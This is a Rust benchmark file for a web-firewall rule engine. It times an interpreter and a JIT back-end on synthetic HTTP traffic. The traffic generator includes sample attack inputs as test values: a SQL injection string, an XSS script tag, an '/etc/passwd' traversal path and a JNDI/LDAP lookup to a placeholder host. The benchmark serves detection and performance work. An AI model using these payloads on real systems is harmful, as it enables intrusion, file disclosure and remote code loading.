//! Rule-language benches: evaluation of generated rule packs on the
//! interpreter and (feature `jit`) the cranelift JIT, on one static request
//! and on 32 generated ones (`*_32_requests`: all 32 per iteration), and
//! compile time of a large pack.
//!
//! `cargo bench -p rampart-dsl --bench rules` (interpreter only),
//! `cargo bench -p rampart-dsl --features jit --bench rules` (both).

use std::hint::black_box;
use std::sync::Arc;

use criterion::{criterion_group, criterion_main, Criterion};
use rampart_dsl::ir::RulePhase;
use rampart_dsl::{
    compile_str, Evaluator, Interpreter, MemoryCounters, Outcome, RuleBackend, StaticView,
};
use rampart_types::{Class, Finding, NodeId, NodeKind, Seg, Source, Tree};

fn leaf(t: &mut Tree, parent: NodeId, key: &str, value: &str) {
    let (start, end) = t.push_bytes(key.as_bytes());
    let v = t.push_bytes(value.as_bytes());
    t.push_node(parent, Seg::Key { start, end }, NodeKind::Leaf, v);
}

/// GET /api/r7/42?q=red shoes&category=footwear&sort=price_asc&page=2&size=42
fn request() -> StaticView {
    let mut t = Tree::new();
    let v = t.push_bytes(b"GET");
    t.push_node(NodeId::ROOT, Seg::Source(Source::Method), NodeKind::Leaf, v);
    let path = "/api/r7/42";
    let v = t.push_bytes(path.as_bytes());
    let p = t.push_node(NodeId::ROOT, Seg::Source(Source::Path), NodeKind::Leaf, v);
    for (i, s) in ["api", "r7", "42"].iter().enumerate() {
        let v = t.push_bytes(s.as_bytes());
        t.push_node(p, Seg::Index(i as u32), NodeKind::Leaf, v);
    }
    let v = t.push_bytes(b"q=red shoes&category=footwear&sort=price_asc&page=2&size=42");
    let q = t.push_node(NodeId::ROOT, Seg::Source(Source::Query), NodeKind::Leaf, v);
    for (k, v) in [
        ("q", "red shoes"),
        ("category", "footwear"),
        ("sort", "price_asc"),
        ("page", "2"),
        ("size", "42"),
    ] {
        leaf(&mut t, q, k, v);
    }
    let h = t.push_node(
        NodeId::ROOT,
        Seg::Source(Source::Header),
        NodeKind::Container,
        (0, 0),
    );
    for (k, v) in [
        ("host", "shop.example.com"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0",
        ),
        ("accept", "text/html,application/xhtml+xml"),
        ("accept-language", "en-GB,en;q=0.9"),
    ] {
        leaf(&mut t, h, k, v);
    }
    StaticView {
        tree: t,
        client_ip: Some(b"203.0.113.7".to_vec()),
        ..StaticView::default()
    }
}

/// Generated traffic (what `rampart rules bench` times, without the
/// engine): `n` requests over a few paths, with 0 to 3 query parameters
/// out of five names (a tenth of the values attacks, with a finding each),
/// a host, a user agent, a cookie header, and for a POST a JSON body.
fn traffic(n: usize) -> Vec<StaticView> {
    const WORDS: &[&str] = &[
        "shoes",
        "red",
        "blue jacket",
        "42",
        "1",
        "2024-05-01",
        "true",
    ];
    const ATTACKS: &[(&str, Class)] = &[
        ("1' OR '1'='1", Class::Sqli),
        ("<script>alert(1)</script>", Class::Xss),
        ("../../etc/passwd", Class::Traversal),
        ("${jndi:ldap://x.example/a}", Class::Jndi),
    ];
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    let mut rnd = |k: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        (seed % k as u64) as usize
    };
    (0..n)
        .map(|_| {
            let mut t = Tree::new();
            let post = rnd(4) == 0;
            let v = t.push_bytes(if post { b"POST" } else { b"GET" });
            t.push_node(NodeId::ROOT, Seg::Source(Source::Method), NodeKind::Leaf, v);
            let path = ["/", "/search", "/api/items/17", "/account"][rnd(4)];
            let v = t.push_bytes(path.as_bytes());
            t.push_node(NodeId::ROOT, Seg::Source(Source::Path), NodeKind::Leaf, v);
            let mut findings = Vec::new();
            let params = rnd(4);
            if params > 0 {
                let q = t.push_node(
                    NodeId::ROOT,
                    Seg::Source(Source::Query),
                    NodeKind::Container,
                    (0, 0),
                );
                for _ in 0..params {
                    let name = ["q", "page", "id", "sort", "filter"][rnd(5)];
                    let (value, class) = if rnd(10) == 0 {
                        let (a, c) = ATTACKS[rnd(ATTACKS.len())];
                        (a, Some(c))
                    } else {
                        (WORDS[rnd(WORDS.len())], None)
                    };
                    let (start, end) = t.push_bytes(name.as_bytes());
                    let v = t.push_bytes(value.as_bytes());
                    let node = t.push_node(q, Seg::Key { start, end }, NodeKind::Leaf, v);
                    if let Some(c) = class {
                        findings.push(Finding::new(node, c, "bench.attack", 80, "attack"));
                    }
                }
            }
            let h = t.push_node(
                NodeId::ROOT,
                Seg::Source(Source::Header),
                NodeKind::Container,
                (0, 0),
            );
            let cookie = format!("session=s{}; theme=dark", rnd(40));
            let mut headers = vec![
                ("host", "app.example"),
                (
                    "user-agent",
                    "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
                ),
                ("cookie", cookie.as_str()),
            ];
            if post {
                headers.push(("content-type", "application/json"));
            }
            for (k, v) in headers {
                leaf(&mut t, h, k, v);
            }
            if post {
                let b = t.push_node(
                    NodeId::ROOT,
                    Seg::Source(Source::Body),
                    NodeKind::Leaf,
                    (0, 0),
                );
                let j = t.push_node(b, Seg::Layer("json"), NodeKind::Container, (0, 0));
                let (start, end) = t.push_bytes(b"user");
                let u = t.push_node(j, Seg::Key { start, end }, NodeKind::Container, (0, 0));
                leaf(&mut t, u, "name", WORDS[rnd(WORDS.len())]);
                leaf(&mut t, u, "id", &rnd(1000).to_string());
            }
            StaticView {
                tree: t,
                findings,
                client_ip: Some(b"198.51.100.7".to_vec()),
                ..StaticView::default()
            }
        })
        .collect()
}

/// The JIT back-end; `RAMPART_JIT_OPT` sets cranelift's `opt_level`.
#[cfg(feature = "jit")]
fn jit() -> rampart_dsl::Jit {
    let mut j = rampart_dsl::Jit::default();
    match std::env::var("RAMPART_JIT_OPT").as_deref() {
        Ok("speed") => j.opt_level = "speed",
        Ok("speed_and_size") => j.opt_level = "speed_and_size",
        _ => {}
    }
    j
}

fn run(c: &mut Criterion, name: &str, eval: &dyn Evaluator, req: &StaticView) {
    let mut counters = MemoryCounters::default();
    let mut out = Outcome::default();
    c.bench_function(name, |b| {
        b.iter(|| {
            eval.evaluate(
                black_box(req),
                RulePhase::Request,
                &mut counters,
                0,
                &mut out,
            );
            black_box(out.matched.len())
        })
    });
}

/// One evaluation of each request of `reqs` per iteration.
fn run_all(c: &mut Criterion, name: &str, eval: &dyn Evaluator, reqs: &[StaticView]) {
    let mut counters = MemoryCounters::default();
    let mut out = Outcome::default();
    c.bench_function(name, |b| {
        b.iter(|| {
            let mut n = 0;
            for req in reqs {
                eval.evaluate(
                    black_box(req),
                    RulePhase::Request,
                    &mut counters,
                    0,
                    &mut out,
                );
                n += out.matched.len();
            }
            black_box(n)
        })
    });
}

fn bench(c: &mut Criterion) {
    let req = request();
    // 1000 rules on 32 generated requests (per iteration: all 32).
    let reqs = traffic(32);
    let prog = Arc::new(
        compile_str("bench.rules", &rampart_dsl::synthetic::rules(1000, 0)).expect("pack compiles"),
    );
    let eval = Interpreter.compile(prog.clone()).expect("interpreter");
    run_all(c, "interpret/1000_rules_32_requests", &eval, &reqs);
    #[cfg(feature = "jit")]
    {
        let jit = jit().compile(prog).expect("jit");
        for (i, req) in reqs.iter().enumerate() {
            let (mut a, mut b) = (Outcome::default(), Outcome::default());
            let mut counters = MemoryCounters::default();
            eval.evaluate(req, RulePhase::Request, &mut counters, 0, &mut a);
            let mut counters = MemoryCounters::default();
            jit.evaluate(req, RulePhase::Request, &mut counters, 0, &mut b);
            assert_eq!(a, b, "back-ends disagree on generated request {i}");
        }
        run_all(c, "jit/1000_rules_32_requests", &jit, &reqs);
    }
    for (name, n, eps) in [
        ("1000_rules_unscoped", 1000, 0),
        ("1000_rules_100_endpoints", 1000, 100),
        ("10000_rules_1000_endpoints", 10_000, 1000),
    ] {
        let prog = Arc::new(
            compile_str("bench.rules", &rampart_dsl::synthetic::rules(n, eps))
                .expect("pack compiles"),
        );
        let eval = Interpreter.compile(prog.clone()).expect("interpreter");
        run(c, &format!("interpret/{name}"), &eval, &req);
        #[cfg(feature = "jit")]
        {
            let jit = jit().compile(prog).expect("jit");
            // The bench measures what the tests check: the same outcome.
            let (mut a, mut b) = (Outcome::default(), Outcome::default());
            eval.evaluate(
                &req,
                RulePhase::Request,
                &mut MemoryCounters::default(),
                0,
                &mut a,
            );
            jit.evaluate(
                &req,
                RulePhase::Request,
                &mut MemoryCounters::default(),
                0,
                &mut b,
            );
            assert_eq!(a, b, "back-ends disagree on {name}");
            run(c, &format!("jit/{name}"), &jit, &req);
        }
    }
    let big = rampart_dsl::synthetic::rules(10_000, 1000);
    let mut g = c.benchmark_group("compile");
    g.sample_size(10);
    g.bench_function("10000_rules", |b| {
        b.iter(|| {
            let prog = compile_str("bench.rules", black_box(&big)).expect("pack compiles");
            Interpreter.compile(Arc::new(prog)).expect("interpreter")
        })
    });
    #[cfg(feature = "jit")]
    g.bench_function("10000_rules_jit", |b| {
        b.iter(|| {
            let prog = compile_str("bench.rules", black_box(&big)).expect("pack compiles");
            jit().compile(Arc::new(prog)).expect("jit")
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
